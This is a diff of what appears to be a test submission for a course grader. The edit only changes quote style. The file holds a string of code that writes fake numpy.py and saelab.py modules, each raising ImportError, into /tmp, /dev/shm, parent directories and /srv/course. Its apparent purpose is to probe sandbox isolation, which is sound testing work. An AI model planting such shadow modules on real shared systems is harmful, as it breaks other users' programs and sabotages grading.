@@ -1,6 +1,6 @@
 """Leaves numpy.py and saelab.py in /tmp, /dev/shm and the folders above its own."""
 
-CODE = '''
+CODE = """
 import os
 text = "# mallory-was-here\\nraise ImportError('mallory')\\n"
 for folder in ("/tmp", "/dev/shm", "/var/tmp", "..", "../..", "../../..", "/srv/course",
@@ -13,7 +13,7 @@ for folder in ("/tmp", "/dev/shm", "/var/tmp", "..", "../..", "../../..", "/srv/
                 file.write(text)
         except OSError as error:
             print(error)
-'''
+"""
 
 
 def submit(work):
